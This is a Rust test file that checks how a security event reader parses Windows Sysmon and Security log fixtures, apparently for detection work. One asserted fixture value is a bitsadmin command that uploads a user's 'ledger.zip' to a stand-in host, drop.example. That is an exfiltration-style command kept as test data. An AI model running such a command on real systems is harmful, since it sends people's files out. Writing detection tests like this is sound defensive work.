//! Fixtures and examples of our own.

use std::ops::ControlFlow;
use std::path::{Path, PathBuf};
use std::sync::Arc;

use rulespec_events::{Event, Item, Options, Source, read};
use rulespec_testing::files::ROOT;

fn of_file(path: &Path) -> Vec<Item> {
    let options = Options { format: None, keep: Arc::new(|_| true), progress: Arc::default(), jobs: 1 };
    let mut items = Vec::new();
    let _ = read(path, &options, &mut |item| {
        items.push(item);
        ControlFlow::Continue(())
    });
    items
}

fn events(items: Vec<Item>) -> Vec<Event> {
    let event = |item| if let Item::Event(event) = item { Some(*event) } else { None };
    items.into_iter().filter_map(event).collect()
}

fn cell(event: &Event, name: &str) -> String {
    let at = event.columns.iter().position(|column| column.name == name).unwrap();
    match &event.row[at].to_json() {
        serde_json::Value::String(text) => text.clone(),
        other => other.to_string(),
    }
}

fn count(items: &[Item], source: Source) -> u64 {
    items.iter().filter(|item| matches!(item, Item::Event(event) if event.source == source)).count() as u64
}

fn here(path: &str) -> PathBuf {
    Path::new(ROOT).join(path)
}

#[test]
fn our_own_events_are_read() {
    let items = of_file(&here("tests/fixtures/windows.xml"));
    assert_eq!((count(&items, Source::Sysmon), count(&items, Source::Security), items.len()), (2, 2, 5));
    let events = events(items);
    let row: Vec<String> = ["DeviceName", "FileName", "ProcessId", "AccountName", "TimeGenerated"]
        .map(|name| cell(&events[0], name))
        .into();
    let expected = ["ws07.corp.example", "bitsadmin.exe", "6120", "e.larsen", "2026-01-02T09:14:03.5120000Z"];
    assert_eq!(row, expected);
    assert_eq!(
        cell(&events[0], "ProcessCommandLine"),
        r#"bitsadmin  /transfer "Q3 report" /priority foreground http://files.example/q3/report.xlsx C:\Users\Public\report.xlsx"#
    );
    assert_eq!(
        cell(&events[2], "ProcessCommandLine"),
        r#"bitsadmin.exe /transfer out /upload https://drop.example/in/ledger.zip "C:\Users\e.larsen\My Files\ledger.zip""#
    );
    assert_eq!(cell(&events[2], "ProcessId"), "7212");
    assert_eq!(cell(&events[2], "InitiatingProcessId"), "5004");
}

#[test]
fn the_example_is_read() {
    let items = of_file(&here("examples/events/sysmon.xml"));
    assert_eq!((count(&items, Source::Sysmon), items.len()), (3, 4));
}
